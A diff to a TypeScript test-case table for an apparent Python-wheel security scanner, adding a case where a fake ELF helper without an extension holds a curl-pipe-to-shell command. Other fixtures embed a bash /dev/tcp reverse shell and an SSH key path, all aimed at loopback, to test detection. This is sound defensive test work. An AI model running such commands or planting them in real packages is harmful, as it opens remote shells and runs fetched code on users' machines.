@@ -142,6 +142,7 @@ const CASES: Case[] = [
 
   // --- compiled files -----------------------------------------------------------------------
   { rule: "static.binary.reverse-shell", label: "bash /dev/tcp reverse shell in a .so", expect: "block", build: wheel("revshell", { "revshell/__init__.py": "", "revshell/_speed.so": elf("bash -i >& /dev/tcp/127.0.0.1/9 0>&1") }) },
+  { rule: "static.binary.reverse-shell", label: "ELF executable without an extension, found by its magic", expect: "block", build: wheel("binmagic", { "binmagic/__init__.py": "", "binmagic/bin/helper": elf("sh -c 'curl -s http://127.0.0.1:9/i | sh'") }) },
   { rule: "static.binary.reverse-shell", label: "generic strings every extension has", expect: "none", build: wheel("generic", { "generic/__init__.py": "", "generic/_c.so": elf("https://example.org/docs", "socket", "/bin/sh", "connect") }) },
   { rule: "static.binary.credential-path", label: "SSH key path in a .so", expect: "warn", build: wheel("bincred", { "bincred/__init__.py": "", "bincred/_c.so": elf("%s/.ssh/id_rsa") }) },
   { rule: "static.binary.credential-path", label: "an extension without such strings", expect: "none", build: wheel("bincln", { "bincln/__init__.py": "", "bincln/_c.so": elf("PyInit__c", "numpy") }) },
